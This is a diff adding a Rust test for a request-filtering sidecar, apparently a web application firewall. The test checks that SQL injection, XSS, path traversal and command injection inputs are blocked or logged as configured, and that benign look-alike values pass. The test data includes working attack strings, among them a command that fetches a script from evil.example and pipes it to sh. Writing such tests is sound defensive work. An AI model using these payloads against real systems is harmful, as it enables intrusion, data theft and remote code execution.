@@ -327,3 +327,92 @@ fn response_headers_are_removed_and_set_on_every_answer() {
     assert_eq!(refusal.status, 404);
     assert_eq!(refusal.header("x-frame-options"), Some("SAMEORIGIN"));
 }
+
+#[test]
+fn injections_in_parameters_and_bodies_are_refused_or_logged_as_configured() {
+    let sidecar = start(SPEC, "echo");
+    let search = |q: &str| {
+        let target = format!("/search?q={}", percent_encode(q));
+        send(&sidecar, "GET", &target, &[], b"")
+    };
+    for (attack, kind) in [
+        ("' OR '1'='1' --", "sql-injection"),
+        (
+            "1 UNION SELECT username, password FROM users",
+            "sql-injection",
+        ),
+        ("<img src=x onerror=alert(1)>", "xss"),
+        ("../../../../etc/passwd", "path-traversal"),
+        ("x && curl http://evil.example/x.sh | sh", "command-injection"),
+    ] {
+        let answer = search(attack);
+        assert_eq!(answer.status, 403, "{attack}");
+        let problem = answer.json();
+        assert!(
+            problem["type"]
+                .as_str()
+                .unwrap()
+                .ends_with(&format!("/threat-{kind}")),
+            "{attack}: {problem}"
+        );
+        assert!(!answer.body.contains(attack), "the value is never echoed");
+    }
+    for benign in [
+        "O'Brien's café",
+        "select a plan; drop-off at 5",
+        "rock & roll",
+        "https://example.com/a?b=c",
+    ] {
+        assert_eq!(search(benign).status, 200, "{benign}");
+    }
+    // A value pinned by its schema (an anchored pattern) is validated, not scanned.
+    assert_eq!(
+        send(&sidecar, "GET", "/search?sort=name", &[], b"").status,
+        200
+    );
+
+    let post = |target: &str, body: &str| {
+        send(
+            &sidecar,
+            "POST",
+            target,
+            &[("Content-Type", "application/json")],
+            body.as_bytes(),
+        )
+    };
+    let answer = post(
+        "/items",
+        r#"{"name": "<script>alert(document.cookie)</script>"}"#,
+    );
+    assert_eq!(answer.status, 403);
+    assert!(
+        answer.json()["type"]
+            .as_str()
+            .unwrap()
+            .ends_with("/threat-xss")
+    );
+    // `threats: {xss: log}` on this operation: forwarded, and the access log says what was seen.
+    let logged = post("/comments", r#"{"text": "<script>alert(1)</script>"}"#);
+    assert_eq!(logged.status, 200, "{}", logged.body);
+    std::thread::sleep(Duration::from_millis(100));
+    let log = sidecar.stdout.lock().unwrap().join("\n");
+    let line = log
+        .lines()
+        .find(|l| l.contains(r#""operation":"comment""#))
+        .unwrap_or_else(|| panic!("an access-log line for the comment: {log}"));
+    assert!(line.contains("threat-xss"), "{line}");
+    assert!(line.contains(r#""decision":"monitor""#), "{line}");
+    assert!(!line.contains("<script>"), "values are never logged");
+}
+
+/// Percent-encodes everything but unreserved characters.
+fn percent_encode(text: &str) -> String {
+    text.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
+                (b as char).to_string()
+            }
+            _ => format!("%{b:02X}"),
+        })
+        .collect()
+}
